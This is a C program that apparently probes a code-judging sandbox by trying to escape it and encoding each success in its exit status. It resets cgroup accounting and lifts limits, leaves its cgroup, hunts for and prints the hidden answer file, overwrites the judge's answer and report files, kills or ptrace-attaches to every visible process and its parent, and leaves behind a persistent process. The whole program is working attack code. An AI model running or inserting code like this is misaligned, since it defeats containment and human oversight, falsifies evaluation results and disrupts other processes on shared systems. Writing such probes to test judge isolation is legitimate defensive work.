/* Tries to get around the judge. The exit status tells what it got: 1 its peak or its CPU
   time is reset, 2 its limit is lifted, 4 it has left its cgroup, 8 it has read the
   answer, which it then prints, 16 it has written to the judge's files, 32 it has
   signalled the judge, or looked into it. And it leaves a process behind. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static int put(const char *dir, const char *file, const char *text)
{
	char path[8400];
	int fd, ok;

	snprintf(path, sizeof path, "%s/%s", dir, file);
	if ((fd = open(path, O_WRONLY)) < 0)
		return 0;
	ok = write(fd, text, strlen(text)) > 0;
	close(fd);
	return ok;
}

/* cgroups tries the files of limits in every place where its cgroups may be mounted. */
static int cgroups(void)
{
	char line[4096], dir[8192], self[32], *path, *controllers;
	const char *tops[] = { "/sys/fs/cgroup/", "/sys/fs/cgroup", "/tmp/cgroup", "/proc/1/root/sys/fs/cgroup/" };
	FILE *f = fopen("/proc/self/cgroup", "r");
	int got = 0;

	snprintf(self, sizeof self, "%d", (int)getpid());
	mkdir("/tmp/cgroup", 0755);
	while (f && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		controllers = strchr(line, ':') + 1;
		path = strchr(controllers, ':');
		*path++ = 0;
		mount("cgroup", "/tmp/cgroup", *controllers ? "cgroup" : "cgroup2", 0, *controllers ? controllers : "");
		for (unsigned n = 0; n < sizeof tops / sizeof *tops; n++) {
			const char *top = tops[n];
			const char *below = top[strlen(top) - 1] == '/' ? controllers : "";

			snprintf(dir, sizeof dir, "%s%s%s", top, below, path);
			if (access(dir, F_OK)) /* what is mounted may be its own */
				snprintf(dir, sizeof dir, "%s%s", top, below);
			if (put(dir, "memory.max_usage_in_bytes", "0") | put(dir, "memory.peak", "0") | put(dir, "cpuacct.usage", "0"))
				got |= 1;
			if (put(dir, "memory.memsw.limit_in_bytes", "-1") | put(dir, "memory.limit_in_bytes", "-1") |
			    put(dir, "memory.max", "max") | put(dir, "pids.max", "max") | put(dir, "cpu.max", "max"))
				got |= 2;
			snprintf(dir, sizeof dir, "%s%s", top, below);
			if (strcmp(path, "/") && put(dir, "cgroup.procs", self))
				got |= 4;
		}
	}
	return got;
}

static int show(const char *answer)
{
	FILE *f = fopen(answer, "r");
	int c;

	if (!f)
		return 0;
	while ((c = getc(f)) != EOF)
		putchar(c);
	return 8;
}

/* files looks for the answer beside itself, and beside the input, whose name the kernel
   tells; and writes where it may. */
static int files(char *self)
{
	char path[8192], input[4096];
	const char *near[] = { "answer", "../answer", "../private/answer", "../../private/answer" };
	const char *roots[] = { "", "/proc/1/root", "/proc/self/cwd/../..", "/old_root" };
	ssize_t length = readlink("/proc/self/fd/0", input, sizeof input - 1);
	int got = 0;

	*strrchr(self, '/') = 0;
	for (unsigned n = 0; n < sizeof near / sizeof *near; n++) {
		snprintf(path, sizeof path, "%s/%s", self, near[n]);
		got |= show(path);
	}
	if (length > 0 && *input == '/') {
		input[length] = 0;
		*strrchr(input, '/') = 0;
		for (unsigned n = 0; n < sizeof roots / sizeof *roots; n++) {
			snprintf(path, sizeof path, "%s%s/answer", roots[n], input);
			got |= show(path);
			snprintf(path, sizeof path, "%s%s", roots[n], input);
			if (put(path, "answer", "0\n") | put(path, "report", "{}"))
				got |= 16;
		}
	}
	if (put("/proc/self/fd", "0", "0\n"))
		got |= 16;
	return got;
}

/* processes goes for all that it sees, and for who has started it. */
static int processes(void)
{
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	int got = 0;

	while (proc && (entry = readdir(proc))) {
		int pid = atoi(entry->d_name);

		if (pid <= 0 || pid == getpid())
			continue;
		if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0 || kill(pid, SIGKILL) == 0)
			got = 32;
	}
	if (getppid() > 0 && kill(getppid(), SIGKILL) == 0)
		got = 32;
	return got;
}

static void leave_one_behind(void)
{
	if (fork())
		return;
	setsid();
	if (fork())
		_exit(0);
	for (int n = 1; n < 64; n++)
		signal(n, SIG_IGN);
	prctl(PR_SET_NAME, "left-behind");
	for (int n = 0; n < 3; n++)
		close(n);
	for (;;)
		sleep(1000);
}

int main(int argc, char **argv)
{
	int got = cgroups() | files(argv[0]) | processes();

	leave_one_behind();
	return got;
}
